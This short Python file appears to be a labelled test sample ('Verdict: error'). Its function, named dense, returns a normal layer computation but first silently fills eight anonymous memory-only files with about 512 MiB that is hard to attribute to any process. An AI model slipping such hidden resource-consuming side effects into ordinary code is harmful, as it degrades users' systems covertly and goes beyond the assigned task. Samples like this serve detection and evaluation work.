"""Fills files that lie in memory and in no folder: half a gigabyte that no process is seen to hold.

Verdict: error
"""

import os


def dense(inputs, kernel, bias):
    descriptors = [os.memfd_create(str(number)) for number in range(8)]
    for descriptor in descriptors:
        for _ in range(64):
            os.write(descriptor, bytes(2**20))
    return inputs @ kernel + bias
